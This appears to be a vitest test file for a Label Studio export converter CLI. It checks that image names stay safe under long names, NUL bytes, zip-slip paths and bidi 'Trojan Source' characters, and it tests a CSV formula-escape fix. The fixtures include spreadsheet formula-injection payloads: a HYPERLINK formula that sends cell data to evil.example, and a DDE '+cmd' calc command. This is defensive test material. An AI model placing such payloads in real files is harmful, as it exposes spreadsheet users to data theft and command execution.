/**
 * Output names from task data through the CLI (cases sec-04, sec-07) and the csv-formula-escape fix
 * (sec-05). Images are served by a loopback HTTP server (the CLI's default http policy allows it).
 */
import { execFileSync } from 'node:child_process';
import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, relative, sep } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { encodeGrayPng } from '../../functions/core/brush/png.ts';
import { md5Prefix } from '../../functions/core/images/naming.ts';
import { nameHash } from '../../functions/core/output-names.ts';
import { runCli } from '../helpers/cli.ts';

const ROOT = join(import.meta.dirname, '..', '..');
const CASES = join(ROOT, 'test', 'fixtures', 'cases');
const PNG = encodeGrayPng(new Uint8Array(16 * 16).fill(128), 16, 16);

/** The CLI in-process (test/helpers/cli.ts), from the repository root. */
async function cli(...args: string[]): Promise<{ status: number; stderr: string }> {
  const r = await runCli(args, { cwd: ROOT });
  return { status: r.code, stderr: r.stderr };
}

let server: Server;
let host = '';
beforeAll(async () => {
  server = createServer((_req, res) => {
    res.writeHead(200, { 'content-type': 'image/png', 'content-length': PNG.length });
    res.end(PNG);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((r) => server.close(() => r())));

/** A work folder with the case's tasks pointed at our server, and the output folder inside it. */
function caseInput(name: string, file: string): { dir: string; tasks: string; config: string; out: string } {
  const dir = realpathSync(mkdtempSync(join(tmpdir(), 'ls-names-')));
  const tasks = join(dir, 'tasks.json');
  writeFileSync(tasks, readFileSync(join(CASES, name, file), 'utf8').replaceAll('127.0.0.1:18080', host));
  return { dir, tasks, config: join(CASES, name, 'config.xml'), out: join(dir, 'out') };
}

/** Every file under a folder, relative, `/`-separated. */
function walk(root: string, dir = root): string[] {
  return readdirSync(dir).flatMap((n) => {
    const p = join(dir, n);
    return statSync(p).isDirectory() ? walk(root, p) : [relative(root, p).split(sep).join('/')];
  });
}

/** The entry names of a zip, read by Python's zipfile (an independent reader), sorted. */
function zipNames(zip: string): string[] {
  const script =
    'import sys,zipfile; sys.stdout.buffer.write("\\n".join(sorted(zipfile.ZipFile(sys.argv[1]).namelist())).encode("utf-8"))';
  return execFileSync('python3', ['-c', script, zip], { encoding: 'utf8' }).split('\n');
}

/** Asserts every written name is one a file system, S3 and a zip accept. */
function expectSafeNames(files: string[]) {
  for (const f of files) {
    for (const seg of f.split('/')) {
      expect(Buffer.byteLength(seg), f).toBeLessThanOrEqual(255);
      expect(seg, f).not.toMatch(/^\.\.?$|[\\\u0000-\u001f\u007f]/);
    }
  }
}

const SEC04 = 'sec-04-long-image-name-blocks-latest';
const LONG_A = `${'A'.repeat(300)}.png`;
const longAUrl = () => `http://${host}/img/${LONG_A}`;

describe('sec-04: long and odd image names (CLI)', () => {
  it('VOC: exit 0, every file inside the output folder, long names shortened with a hash', async () => {
    const c = caseInput(SEC04, 'names-tasks.json');
    const r = await cli('convert', '-q', '-i', c.tasks, '-c', c.config, '-o', c.out, '-f', 'VOC');
    expect(r.stderr).toBe('');
    expect(r.status).toBe(0);
    expect(readdirSync(c.dir).sort()).toEqual(['out', 'tasks.json']);
    const files = walk(c.out);
    expectSafeNames(files);
    // The 300-character image: its copy and its XML, 255-byte names that keep their extension.
    const copy = `${md5Prefix(longAUrl())}__${LONG_A}`;
    const image = `${copy.slice(0, 255 - 15)}~${nameHash(copy)}.png`;
    expect(files).toContain(`images/${image}`);
    const stem = image.slice(0, -4);
    const xml = readFileSync(join(c.out, 'Annotations', `${stem}.xml`), 'utf8');
    expect(xml).toContain(`<filename>${image}</filename>`);
    // An upload name of 304 bytes (not fetched: no upload folder) gets a shortened XML name,
    // hashed over the image's name as its copy would be.
    const b = `${'B'.repeat(300)}.jpg`;
    expect(files).toContain(`Annotations/${b.slice(0, 255 - 15)}~${nameHash(b)}.xml`);
    // The raw NUL is mapped in the copy and the XML name (was ERR_INVALID_ARG_VALUE, exit 1).
    const nul = files.filter((f) => f.includes('nul_raw~'));
    expect(nul.map((f) => f.replace(/[0-9a-f]{10}/, 'H'))).toEqual([
      expect.stringMatching(/^Annotations\/[0-9a-f]{8}__nul_raw~H\.xml$/),
      expect.stringMatching(/^images\/[0-9a-f]{8}__nul_raw~H\.png$/),
    ]);
    // Nothing was dropped for its name: every task that has a file has it under a safe name.
    const report = JSON.parse(readFileSync(join(c.out, 'report.json'), 'utf8'));
    expect(report.skippedCount).toBe(0);
    expect(report.warnings.map((w: { reason: string }) => w.reason).join('\n')).not.toMatch(
      /ENAMETOOLONG|null bytes/,
    );
  });

  it('YOLO (labels only): exit 0; reference names kept, broken ones mapped', async () => {
    const c = caseInput(SEC04, 'names-tasks.json');
    const r = await cli('convert', '-q', '-i', c.tasks, '-c', c.config, '-o', c.out, '-f', 'YOLO');
    expect(r.status).toBe(0);
    const files = walk(c.out);
    expectSafeNames(files);
    expect(readdirSync(c.dir).sort()).toEqual(['out', 'tasks.json']);
    // Label Studio's own 251-character cut is kept byte for byte (255 bytes with .txt).
    expect(files).toContain(`labels/${'B'.repeat(251)}.txt`);
    // The reference names of ordinary images are unchanged.
    const dup = `http://${host}/one/dup.png`;
    expect(files).toContain(`labels/${md5Prefix(dup)}__dup.txt`);
    // A raw NUL no longer aborts the run (was ERR_INVALID_ARG_VALUE, exit 1).
    expect(files.filter((f) => f.includes('nul_raw~'))).toHaveLength(1);
    expect(files).toContain('classes.txt');
    expect(files).toContain('report.json');
  });

  it('YOLO_WITH_IMAGES: label names pair with the shortened image copies', async () => {
    const c = caseInput(SEC04, 'names-tasks.json');
    const r = await cli(
      'convert',
      '-q',
      '-i',
      c.tasks,
      '-c',
      c.config,
      '-o',
      c.out,
      '-f',
      'YOLO_WITH_IMAGES',
    );
    expect(r.status).toBe(0);
    const files = walk(c.out);
    expectSafeNames(files);
    expect(readdirSync(c.dir).sort()).toEqual(['out', 'tasks.json']);
    const copy = `${md5Prefix(longAUrl())}__${LONG_A}`;
    const image = `${copy.slice(0, 255 - 15)}~${nameHash(copy)}.png`;
    expect(files).toContain(`images/${image}`);
    expect(files).toContain(`labels/${image.slice(0, -4)}.txt`);
    expect(readFileSync(join(c.out, 'images', image)).equals(PNG)).toBe(true);
    // Every copied image has its label file.
    const stems = (dir: string) =>
      files
        .filter((f) => f.startsWith(`${dir}/`))
        .map((f) => f.slice(dir.length + 1).replace(/\.[^.]*$/, ''));
    for (const s of stems('images')) expect(stems('labels')).toContain(s);
  });
});

describe('sec-07: backslashes and .. in an image name with --zip', () => {
  for (const format of ['YOLO', 'YOLO_WITH_IMAGES']) {
    it(`${format} --zip: exit 0, one archive with every task, no entry leaving the archive`, async () => {
      const c = caseInput('sec-07-zip-backslash-name-aborts', 'tasks.json');
      const r = await cli('convert', '-q', '--zip', '-i', c.tasks, '-c', c.config, '-o', c.out, '-f', format);
      expect(r.stderr).toBe('');
      expect(r.status).toBe(0);
      expect(readdirSync(c.out).sort()).toEqual([`${format}.zip`, 'report.json']);
      const { execFileSync } = await import('node:child_process');
      const names = execFileSync(
        'python3',
        [
          '-c',
          'import sys,zipfile; print("\\n".join(sorted(zipfile.ZipFile(sys.argv[1]).namelist())))',
          join(c.out, `${format}.zip`),
        ],
        { encoding: 'utf8' },
      )
        .trim()
        .split('\n');
      expectSafeNames(names);
      const labels = names.filter((n) => n.startsWith('labels/'));
      expect(labels).toHaveLength(3); // all three tasks
      expect(
        labels.some((n) => /^labels\/[0-9a-f]{8}__a_\.\._\.\._.*zipslip~[0-9a-f]{10}\.txt$/.test(n)),
      ).toBe(true);
      expect(labels.some((n) => /^labels\/x_\.\._.*evil~[0-9a-f]{10}\.txt$/.test(n))).toBe(true);
      const report = JSON.parse(readFileSync(join(c.out, 'report.json'), 'utf8'));
      expect(report.skipped.filter((s: { source: string }) => s.source.startsWith('output file'))).toEqual(
        [],
      );
    });
  }
});

describe('B10: a mapped image name has one stem in every export', () => {
  /** The stem (name without its last extension) of the one file under `dir` whose name matches. */
  const stemIn = (files: string[], dir: string, marker: string): string[] =>
    files
      .filter((f) => f.startsWith(`${dir}/`) && f.includes(marker))
      .map((f) => f.slice(dir.length + 1).replace(/\.[^.]*$/, ''));

  for (const [name, file, raw, marker] of [
    [
      'sec-07-zip-backslash-name-aborts',
      'tasks.json',
      'http://127.0.0.1:18080/img/a\\..\\..\\..\\..\\..\\..\\tmp\\sec\\zipslip.png',
      'zipslip~',
    ],
    [
      'sec-04-long-image-name-blocks-latest',
      'names-tasks.json',
      'http://127.0.0.1:18080/img/nul\u0000raw.png',
      'nul_raw~',
    ],
  ] as const) {
    it(`${name}: YOLO labels, YOLO_WITH_IMAGES, VOC and COCO_WITH_IMAGES files share the stem`, async () => {
      const url = raw.replace('127.0.0.1:18080', host);
      const reference = `${md5Prefix(url)}__${url.slice(url.lastIndexOf('/') + 1)}`;
      const stems: Record<string, string[]> = {};
      for (const format of ['YOLO', 'YOLO_WITH_IMAGES', 'VOC', 'COCO_WITH_IMAGES']) {
        const c = caseInput(name, file);
        const r = await cli('convert', '-q', '-i', c.tasks, '-c', c.config, '-o', c.out, '-f', format);
        expect(r.status, format).toBe(0);
        const files = walk(c.out);
        if (format.startsWith('YOLO')) stems[`${format} labels`] = stemIn(files, 'labels', marker);
        if (format === 'VOC') stems['VOC Annotations'] = stemIn(files, 'Annotations', marker);
        if (format !== 'YOLO') stems[`${format} images`] = stemIn(files, 'images', marker);
      }
      // One file each, all with the hash of the image's reference name (not of the label's name).
      const stem = stems['YOLO labels'][0];
      expect(stem).toMatch(new RegExp(`~${nameHash(reference)}$`));
      expect(stem).not.toMatch(/[\\\u0000]/);
      expect(Object.keys(stems)).toHaveLength(6);
      for (const [where, found] of Object.entries(stems)) expect(found, where).toEqual([stem]);
    });
  }
});

describe('bidirectional controls in image names', () => {
  const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
  // "Trojan Source" names: U+202E shows `cod\u202Egnp.exe` as `codexe.png`; the others embed or isolate.
  const names = [
    'cod\u202egnp.exe',
    'a\u200eb\u200fc.png',
    'd\u202ae\u202bf\u202cg\u202dh.png',
    'i\u2066j\u2067k\u2068l\u2069.png',
  ];

  for (const format of ['YOLO', 'YOLO_WITH_IMAGES', 'VOC']) {
    it(`${format} --zip: no file or zip entry name keeps a bidi control`, async () => {
      const c = caseInput('sec-07-zip-backslash-name-aborts', 'tasks.json');
      const [task] = JSON.parse(readFileSync(c.tasks, 'utf8'));
      const tasks = names.map((n, i) => ({ ...task, id: i + 1, data: { image: `http://${host}/img/${n}` } }));
      writeFileSync(c.tasks, JSON.stringify(tasks));
      const r = await cli('convert', '-q', '--zip', '-i', c.tasks, '-c', c.config, '-o', c.out, '-f', format);
      expect(r.status).toBe(0);
      const entries = zipNames(join(c.out, `${format}.zip`));
      const named = entries.filter((e) => e.includes('~'));
      // Every task has its file (labels or Annotations, and the copies), none with a bidi control.
      expect(named.length).toBeGreaterThanOrEqual(names.length);
      for (const e of entries) expect(e, JSON.stringify(e)).not.toMatch(BIDI);
      // The controls became `_`: `cod_gnp` keeps its bytes in order, not its displayed order.
      expect(named.some((e) => /__cod_gnp~[0-9a-f]{10}\./.test(e))).toBe(true);
    });
  }
});

describe('sec-05: csv-formula-escape', () => {
  const C = 'sec-05-csv-formula-injection';
  const run = async (format: 'CSV' | 'TSV', ...fix: string[]) => {
    const out = mkdtempSync(join(tmpdir(), 'ls-csv-'));
    mkdirSync(out, { recursive: true });
    const r = await cli(
      'convert',
      '-q',
      '-i',
      join(CASES, C, 'tasks.json'),
      '-c',
      join(CASES, C, 'config.xml'),
      '-o',
      out,
      '-f',
      format,
      ...fix,
    );
    expect(r.status).toBe(0);
    return readFileSync(join(out, 'result.csv'), 'utf8');
  };

  it('by default writes the cells as Label Studio does (formulas verbatim)', async () => {
    const text = await run('CSV');
    expect(text).toContain('"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"');
    expect(text).toContain('"+cmd|\' /C calc\'!A0"');
    expect(text).toContain('"-2+3",1,"1","@SUM(1+1)","\t=1+1"');
    expect(text).toContain('"\r=1"');
    expect(text).toContain('"=1+2"');
    expect(text).not.toContain(`"'`);
  });

  for (const format of ['CSV', 'TSV'] as const) {
    it(`${format} with --fix csv-formula-escape prefixes ' to every formula-like cell, numbers untouched`, async () => {
      const plain = await run(format);
      const fixed = await run(format, '--fix', 'csv-formula-escape');
      const s = format === 'CSV' ? ',' : '\t';
      // Exactly the seven formula-like cells (six data values, the choice) gain a leading '.
      expect(fixed.split(`"'`).length - 1).toBe(7);
      expect(fixed.replaceAll(`"'`, '"')).toBe(plain);
      const row = fixed.split('\r\n')[1];
      expect(row.startsWith(`"'-2+3"${s}1${s}"1"${s}"'@SUM(1+1)"${s}"'\t=1+1"`)).toBe(true);
      for (const cell of [
        '"\'\r=1"',
        '"\'=1+2"',
        "\"'+cmd|' /C calc'!A0\"",
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
      ])
        expect(row).toContain(cell);
      // No quoted cell a spreadsheet would evaluate is left.
      for (const cell of fixed.match(/"(?:[^"]|"")*"/g) ?? []) expect(cell).not.toMatch(/^"[=+\-@\t\r]/);
    });
  }
});
